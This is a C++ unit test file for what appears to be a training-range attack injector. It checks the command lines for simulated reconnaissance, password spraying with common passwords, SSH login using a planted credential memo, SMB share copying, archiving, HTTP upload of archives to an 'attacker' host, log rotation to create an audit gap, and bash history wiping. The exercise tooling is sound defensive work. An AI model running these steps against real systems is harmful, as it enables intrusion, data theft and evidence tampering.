// The verbs in the middle of the attack, against guests that say what a test has them say.
#include "injector/actions/act.h"
#include "injector/actions/ssh.h"

#include "scenario-dsl/attack/traces.h"
#include "tests/support/first_light.h"
#include "tests/support/temp_directory.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <deque>
#include <fstream>

namespace enshu::inject {
namespace {

/// Answers in order what it was given; then with success and nothing.
class ToldGuest : public GuestChannel {
  public:
    RunResult run(const std::vector<std::string> &argv, const std::string &input,
                  std::chrono::milliseconds) override {
        std::string line;
        for (const std::string &word : argv)
            line += (line.empty() ? "" : " ") + word;
        commands.push_back(line);
        if (!input.empty())
            scripts.push_back(input);
        if (answers.empty())
            return {};
        const RunResult answer = answers.front();
        answers.pop_front();
        return answer;
    }
    std::string read(const std::string &, std::chrono::milliseconds) override { return ""; }
    void write(const std::string &, const std::string &, std::chrono::milliseconds) override {}

    std::deque<RunResult> answers;
    std::vector<std::string> commands;
    std::vector<std::string> scripts;
};

RunResult says(const std::string &output) {
    return {0, output, "", false};
}
RunResult ends(int code, const std::string &error = "") {
    return {code, "", error, false};
}
const RunResult wrong_password =
    ends(255, "maint@203.0.113.25: Permission denied (publickey,password).\r\n");
const RunResult keys_only = ends(255, "maint@203.0.113.25: Permission denied (publickey).\r\n");
const RunResult refused =
    ends(255, "ssh: connect to host 203.0.113.25 port 22: Connection refused\r\n");

class MovementTest : public testing::Test {
  protected:
    MovementTest() {
        dsl::Organization &city = scenario_.organization;
        for (dsl::Host &host : city.hosts)
            if (host.id == "gate") {
                host.services.push_back({dsl::ServiceKind::Web});
                host.services.push_back({dsl::ServiceKind::Smb, "shared"});
            }
    }

    template <typename Verb>
    const dsl::Step &add(const char *id, Verb verb) {
        dsl::Step step;
        step.id = id;
        step.verb = std::move(verb);
        scenario_.attack.push_back(std::move(step));
        return scenario_.attack.back();
    }
    const dsl::Step &add_login() {
        return add("login", dsl::SshLogin{.on = "pc-suzuki",
                                          .to = "gate",
                                          .user = "maint",
                                          .planted = "/home/suzuki/memo.txt"});
    }
    ActContext context(const char *step) {
        return {scenario_,
                *scenario_.find_step(step),
                1,
                [this](const std::string &host) -> GuestChannel & { return guests_[host]; },
                stop_.get_token(),
                dsl::Milliseconds(30),
                dsl::Milliseconds(1)};
    }
    nlohmann::json play(const char *step) { return perform(context(step)); }
    std::string failure(const char *step) {
        try {
            play(step);
        } catch (const ActFailed &error) {
            return error.what();
        }
        return "";
    }
    ToldGuest &pc() { return guests_["pc-suzuki"]; }
    ToldGuest &gate() { return guests_["gate"]; }

    test::TempDirectory directory_;
    dsl::Scenario scenario_ = test::first_light(directory_.path());
    std::map<std::string, ToldGuest> guests_;
    std::stop_source stop_;
};

// ---- reconnaissance

TEST_F(MovementTest, TheOutsideIsLookedAtFromTheAttackersHost) {
    add("look", dsl::Reconnaissance{"attacker", "gate", 40, {22, 3389}});
    guests_["attacker"].answers = {says("{\"answered\":40,\"not_found\":39,\"open\":1}\n")};
    const auto evidence = play("look");
    EXPECT_EQ(evidence["answered"], 40);
    EXPECT_EQ(evidence["not_found"], 39);
    EXPECT_EQ(guests_["attacker"].commands.front(),
              "/usr/lib/enshu/actor survey --web 203.0.113.25:80 --requests 40 --agent "
              "Mozilla/5.0 (compatible; SiteCheck/0.9) --knock 22,3389");
    undo(context("look"));
    EXPECT_EQ(guests_["attacker"].commands.size(), 1U);
}

TEST_F(MovementTest, AWebServerThatDoesNotAnswerIsSaid) {
    add("look", dsl::Reconnaissance{"attacker", "gate", 40, {}});
    guests_["attacker"].answers = {says("{\"answered\":0,\"not_found\":0,\"open\":0}\n")};
    EXPECT_EQ(failure("look"), "the web server of `gate` does not answer `attacker`");
}

// ---- password-spray

TEST_F(MovementTest, EveryAccountIsTriedWithOnePasswordBeforeTheNext) {
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki", "admin"}, 2});
    gate().answers = {says("")};
    pc().answers = {wrong_password, wrong_password, wrong_password, wrong_password};
    EXPECT_EQ(play("spray")["refused"], 4);
    ASSERT_EQ(pc().commands.size(), 4U);
    EXPECT_EQ(pc().commands[0],
              "/usr/bin/setpriv --reuid=suzuki --regid=suzuki --init-groups --reset-env /bin/sh "
              "-s -- 203.0.113.25 suzuki Password1");
    EXPECT_TRUE(pc().commands[1].ends_with(" admin Password1"));
    EXPECT_TRUE(pc().commands[2].ends_with(" suzuki Welcome1"));
    EXPECT_EQ(gate().commands.front(), "/usr/bin/perl - Password1 Welcome1 suzuki admin");
}

TEST_F(MovementTest, ARightPasswordIsNeverTried) {
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki"}, 5});
    gate().answers = {says("suzuki\n")};
    EXPECT_EQ(failure("spray"), "a password that would be tried is the right one of `suzuki` on "
                                "`gate`: nothing was tried");
    EXPECT_TRUE(pc().commands.empty());
    gate().answers = {ends(2, "cannot read the passwords: Permission denied\n")};
    EXPECT_NE(failure("spray").find("could not be compared"), std::string::npos);
    EXPECT_TRUE(pc().commands.empty());
}

TEST_F(MovementTest, ASprayNeedsAServerThatAsksForPasswords) {
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki"}, 2});
    pc().answers = {keys_only};
    EXPECT_EQ(failure("spray"), "`gate` takes no password by SSH");
    pc().answers = {refused};
    EXPECT_EQ(failure("spray"), "`pc-suzuki` does not reach `gate` by SSH: ssh: connect to host "
                                "203.0.113.25 port 22: Connection refused");
    pc().answers = {says("")};
    EXPECT_EQ(failure("spray"), "`gate` let `suzuki` in");
}

TEST_F(MovementTest, ASprayThatIsClosedInTheMiddleEndsThere) {
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki", "admin"}, 5});
    pc().answers = {wrong_password, wrong_password, wrong_password, refused};
    const auto evidence = play("spray");
    EXPECT_EQ(evidence["refused"], 3);
    EXPECT_NE(evidence["ended"].get<std::string>().find("Connection refused"), std::string::npos);
    EXPECT_EQ(pc().commands.size(), 4U);
}

TEST_F(MovementTest, ASprayHoldsItsCeilingWhateverItIsGiven) {
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki"}, 1000});
    pc().answers.assign(2000, wrong_password);
    EXPECT_EQ(play("spray")["refused"], 5);
}

// ---- ssh-login

TEST_F(MovementTest, ALoginUsesWhatStandsInThePlantedFile) {
    add_login();
    pc().answers = {says("id; hostname; w; exit\r\nuid=1001(maint) gid=1001(maint)\r\ngate\r\n")};
    const auto evidence = play("login");
    EXPECT_EQ(evidence["id"], "uid=1001(maint) gid=1001(maint)\r");
    EXPECT_EQ(evidence["user"], "maint");
    EXPECT_TRUE(pc().commands.front().ends_with(
        "-- 203.0.113.25 maint /home/suzuki/memo.txt id; hostname; w; exit ssh maint@gate"));
}

TEST_F(MovementTest, ALoginThatTheTeamPreventedSaysHow) {
    add_login();
    pc().answers = {ends(20)};
    EXPECT_EQ(failure("login"), "`/home/suzuki/memo.txt` is no longer on `pc-suzuki`");
    pc().answers = {ends(21)};
    EXPECT_EQ(failure("login"),
              "no password of `maint` stands in `/home/suzuki/memo.txt` any more");
    pc().answers = {refused};
    EXPECT_NE(failure("login").find("does not reach `gate` by SSH"), std::string::npos);
    pc().answers = {keys_only};
    EXPECT_EQ(failure("login"), "`gate` takes no password by SSH");

    pc().answers = {wrong_password};
    gate().answers = {says("maint L 2026-11-21 0 99999 7 -1\n")};
    EXPECT_EQ(failure("login"), "the account `maint` on `gate` is locked");
    pc().answers = {wrong_password};
    gate().answers = {ends(1, "passwd: user 'maint' does not exist\n")};
    EXPECT_EQ(failure("login"), "`gate` has no account `maint` any more");
    pc().answers = {wrong_password};
    gate().answers = {says("maint P 2026-11-21 0 99999 7 -1\n")};
    EXPECT_EQ(failure("login"), "`gate` refused the password of `maint` from "
                                "`/home/suzuki/memo.txt`: it is no longer the right one");
    pc().answers = {says("id; hostname; w; exit\r\nThis account is not available.\r\n")};
    EXPECT_EQ(failure("login"), "the shell of `maint` on `gate` did not do as asked");
}

TEST_F(MovementTest, ALoginIsForgottenInBothHistories) {
    add_login();
    undo(context("login"));
    EXPECT_TRUE(pc().commands.front().ends_with(
        "-- /home/suzuki/.bash_history cat /home/suzuki/memo.txt ssh maint@gate"));
    EXPECT_EQ(gate().commands.front(),
              "/bin/sh -s -- /home/maint/.bash_history id; hostname; w; exit");
}

std::string password_of(const std::string &user, const std::filesystem::path &note) {
    const std::string command = "/bin/sh -s <<'END'\n" + std::string(ssh_functions) +
                                "\npassword_in '" + note.string() + "' " + user + "\nEND\n";
    FILE *pipe = popen(command.c_str(), "r");
    char line[200] = "";
    const bool any = fgets(line, sizeof line, pipe) != nullptr;
    pclose(pipe);
    return any ? line : "";
}

TEST_F(MovementTest, ThePasswordOfTheAccountIsFoundAmongOthers) {
    const auto note = directory_.path() / "memo.txt";
    std::ofstream(note) << "【メモ】files の保守用アカウント\n"
                           "  ホスト: files.city.example (192.0.2.1)\n"
                           "  ユーザー: maint\n"
                           "  パスワード: Hinode: 12\n"
                           "\n"
                           "User: other\nPassword: another\n";
    EXPECT_EQ(password_of("maint", note), "Hinode: 12\n");
    EXPECT_EQ(password_of("other", note), "another\n");
    EXPECT_EQ(password_of("nobody", note), "");
}

// ---- smb-copy

TEST_F(MovementTest, AShareIsCopiedIntoTheUsersCache) {
    add("copy", dsl::SmbCopy{"pc-suzuki", "gate", "/srv/shared/residents"});
    pc().answers = {says("{\"files\": 2, \"bytes\": 9000}\n")};
    const auto evidence = play("copy");
    EXPECT_EQ(evidence["into"], "/home/suzuki/.cache/copy");
    EXPECT_EQ(evidence["files"], 2);
    EXPECT_TRUE(
        pc().commands.front().ends_with("-- 203.0.113.25 shared residents /home/suzuki/.cache/copy "
                                        "smbclient //gate/shared -Tc - 'residents' | tar -x"));
    undo(context("copy"));
    EXPECT_TRUE(pc().commands.back().ends_with(
        "-- /home/suzuki/.cache/copy smbclient //gate/shared -Tc - 'residents' | tar -x"));
}

TEST_F(MovementTest, ACopyThatCameToNothingSaysWhy) {
    add("copy", dsl::SmbCopy{"pc-suzuki", "gate", "/srv/shared"});
    const auto nothing = [&](const std::string &why) {
        pc().answers = {{21, why + "\n", "", false}};
        return failure("copy");
    };
    EXPECT_EQ(nothing("NT_STATUS_LOGON_FAILURE"),
              "`gate` does not let `suzuki` in: NT_STATUS_LOGON_FAILURE");
    EXPECT_EQ(nothing("NT_STATUS_IO_TIMEOUT"),
              "`pc-suzuki` gets nothing from the share of `gate`: NT_STATUS_IO_TIMEOUT");
    EXPECT_EQ(nothing(""), "`/srv/shared` is no longer on `gate`");
    pc().answers = {ends(20)};
    EXPECT_EQ(failure("copy"), "no password of `suzuki` stands in the `.netrc` on `pc-suzuki`");
    std::get<dsl::SmbCopy>(scenario_.attack.back().verb).what = "/etc";
    EXPECT_EQ(failure("copy"), "`/etc` is not in the share of `gate`");
}

// ---- archive

TEST_F(MovementTest, AnArchiveIsMadeByRootOnAServerAndByTheUserOnAWorkstation) {
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    add("pack-here", dsl::Archive{"pc-suzuki", "/home/suzuki/Documents"});
    const auto packed = says("{\"entries\": 3, \"bytes\": 900, \"sha256\": \"abc\"}\n");
    gate().answers = {packed};
    const auto evidence = play("pack");
    EXPECT_EQ(evidence["file"], "/var/tmp/pack.tar.gz");
    EXPECT_EQ(evidence["bytes"], 900);
    EXPECT_EQ(evidence["sha256"], "abc");
    EXPECT_EQ(gate().commands.front(), "/bin/sh -s -- /srv/shared /var/tmp/pack.tar.gz");
    pc().answers = {packed};
    play("pack-here");
    EXPECT_TRUE(pc().commands.front().starts_with("/usr/bin/setpriv --reuid=suzuki "));
    undo(context("pack"));
    EXPECT_EQ(gate().commands.back(), "/usr/bin/rm -f -- /var/tmp/pack.tar.gz");
}

TEST_F(MovementTest, AnArchiveOfNothingOrOfTooMuchIsAFailure) {
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    gate().answers = {ends(20), ends(21), ends(1, "No space left on device\n")};
    EXPECT_EQ(failure("pack"), "`/srv/shared` is no longer on `gate`");
    EXPECT_EQ(failure("pack"), "`/srv/shared` on `gate` is larger than 64 MiB");
    EXPECT_EQ(failure("pack"),
              "`/srv/shared` on `gate` could not be packed: No space left on device");
}

// ---- http-upload

const RunResult sent = says("{\"bytes\":1024,\"sha256\":\"abc\",\"status\":201}\n");

TEST_F(MovementTest, AnUploadOfASizeIsPutTogetherFromTheArchivesOfItsHost) {
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    add("elsewhere", dsl::Archive{"pc-suzuki", "/home/suzuki/Documents"});
    add("pack-more", dsl::Archive{"gate", "/srv/more"});
    add("out", dsl::HttpUpload{.on = "gate",
                               .through = {},
                               .to = "attacker",
                               .via = {},
                               .what = {},
                               .size_bytes = 8 << 20});
    gate().answers = {says(""), sent, says("")};
    const auto evidence = play("out");
    EXPECT_EQ(evidence["bytes"], 1024) << "less than was asked: all of it was sent, once";
    EXPECT_EQ(evidence["asked"], 8 << 20);
    EXPECT_EQ(gate().commands[0], "/bin/sh -s -- 8388608 /var/tmp/.out /var/tmp/pack.tar.gz "
                                  "/var/tmp/pack-more.tar.gz");
    EXPECT_TRUE(gate().commands[1].ends_with(" --file /var/tmp/.out"));
    EXPECT_EQ(gate().commands[2], "/usr/bin/rm -f -- /var/tmp/.out");
    gate().answers = {ends(22)};
    EXPECT_EQ(failure("out"), "no archive lies on `gate`");
}

TEST_F(MovementTest, AnUploadThroughAWorkstationIsFetchedWithThePlantedPassword) {
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    add("out", dsl::HttpUpload{.on = "gate",
                               .through = "pc-suzuki",
                               .to = "attacker",
                               .via = "gate",
                               .what = {},
                               .size_bytes = 1024});
    EXPECT_EQ(failure("out"), "no ssh-login step leads from `pc-suzuki` to `gate`");
    add_login();
    pc().answers = {says(""), sent};
    EXPECT_EQ(play("out")["bytes"], 1024);
    EXPECT_TRUE(pc().commands[0].starts_with("/usr/bin/setpriv --reuid=suzuki "));
    EXPECT_TRUE(pc().commands[0].ends_with("-- 203.0.113.25 maint /home/suzuki/memo.txt 1024 "
                                           "/home/suzuki/.cache/out.bin /var/tmp/pack.tar.gz"));
    EXPECT_TRUE(pc().commands[1].ends_with(
        " --proxy 203.0.113.25:3128 --file /home/suzuki/.cache/out.bin"));
    undo(context("out"));
    EXPECT_EQ(pc().commands.back(), "/usr/bin/rm -f -- /home/suzuki/.cache/out.bin");
    EXPECT_TRUE(gate().commands.empty()) << "nothing is done on the server but by SSH";

    pc().answers = {refused};
    EXPECT_NE(failure("out").find("does not reach `gate` by SSH"), std::string::npos);
    pc().answers = {ends(20)};
    EXPECT_EQ(failure("out"), "`/home/suzuki/memo.txt` is no longer on `pc-suzuki`");
    pc().answers = {ends(22)};
    EXPECT_EQ(failure("out"), "no archive lies on `gate`");
}

// ---- rotate-log

TEST_F(MovementTest, ALogIsPutAsideAndSaysHowMuchIsMissing) {
    add("gap", dsl::RotateLog{"gate", "/var/log/auth.log"});
    gate().answers = {says("{\"lines\": 300, \"missing\": 42}\n")};
    const auto evidence = play("gap");
    EXPECT_EQ(evidence["missing"], 42);
    EXPECT_EQ(evidence["aside"], "/var/log/auth.log.1");
    EXPECT_EQ(gate().commands.front(), "/bin/sh -s -- /var/log/auth.log /var/lib/enshu/log-gap");
    gate().answers = {ends(20), ends(21), ends(22)};
    EXPECT_EQ(failure("gap"), "`gate` has no log `/var/log/auth.log`");
    EXPECT_EQ(failure("gap"), "nothing stands in `/var/log/auth.log` on `gate`");
    EXPECT_EQ(failure("gap"), "`/var/log/auth.log.1` and `.2` are already on `gate`");
}

TEST_F(MovementTest, OnlyLogsWhoseDaemonBeginsANewOneArePutAside) {
    add("gap", dsl::RotateLog{"gate", ""});
    auto &log = std::get<dsl::RotateLog>(scenario_.attack.back().verb).log;
    for (const char *one : {"/etc/shadow", "/var/lib/enshu/actor.log", "/var/log/../../etc/passwd",
                            "/run/log/journal", "/var/log/remote/pc.log", "/var/log/wtmp",
                            "/var/log/samba/smbd.log", "/var/log/squid/"}) {
        log = one;
        EXPECT_EQ(failure("gap"), "`" + std::string(one) + "` is no log that can be put aside");
    }
    EXPECT_TRUE(gate().commands.empty());
    gate().answers.assign(20, says("{\"lines\": 1, \"missing\": 1}\n"));
    for (const char *one : {"/var/log/syslog", "/var/log/mail.log", "/var/log/nginx/access.log",
                            "/var/log/squid/access.log", "/var/log/samba/audit.log"}) {
        log = one;
        EXPECT_EQ(failure("gap"), "");
    }
}

// ---- all of them

TEST_F(MovementTest, AStoppedActBeginsNothing) {
    add("look", dsl::Reconnaissance{"attacker", "gate", 40, {}});
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki"}, 2});
    add_login();
    add("copy", dsl::SmbCopy{"pc-suzuki", "gate", "/srv/shared"});
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    add("out", dsl::HttpUpload{.on = "gate",
                               .through = {},
                               .to = "attacker",
                               .via = {},
                               .what = {},
                               .size_bytes = 1024});
    add("gap", dsl::RotateLog{"gate", "/var/log/auth.log"});
    stop_.request_stop();
    for (const char *step : {"look", "spray", "login", "copy", "pack", "out", "gap"})
        EXPECT_THROW(play(step), ActStopped) << step;
    EXPECT_TRUE(std::ranges::all_of(
        guests_, [](const auto &guest) { return guest.second.commands.empty(); }));
}

TEST_F(MovementTest, EveryScriptIsOneThatAShellUnderstands) {
    add("pack", dsl::Archive{"gate", "/srv/shared"});
    add_login();
    add("copy", dsl::SmbCopy{"pc-suzuki", "gate", "/srv/shared"});
    add("out", dsl::HttpUpload{.on = "gate",
                               .through = {},
                               .to = "attacker",
                               .via = {},
                               .what = {},
                               .size_bytes = 1024});
    add("through", dsl::HttpUpload{.on = "gate",
                                   .through = "pc-suzuki",
                                   .to = "attacker",
                                   .via = {},
                                   .what = {},
                                   .size_bytes = 1024});
    add("gap", dsl::RotateLog{"gate", "/var/log/auth.log"});
    add("spray", dsl::PasswordSpray{"pc-suzuki", "gate", {"suzuki"}, 1});
    for (const char *step : {"pack", "login", "copy", "out", "through", "gap", "spray"}) {
        (void)failure(step);
        (void)failure(step);
        undo(context(step));
    }
    int checked = 0;
    for (const auto &[host, guest] : guests_)
        for (const std::string &script : guest.scripts) {
            if (script.find("use strict;") != std::string::npos)
                continue; // perl's
            const auto file = directory_.path() / "script";
            std::ofstream(file) << script;
            EXPECT_EQ(std::system(("/bin/sh -n " + file.string()).c_str()), 0) << script;
            ++checked;
        }
    EXPECT_GE(checked, 10);
}

} // namespace
} // namespace enshu::inject
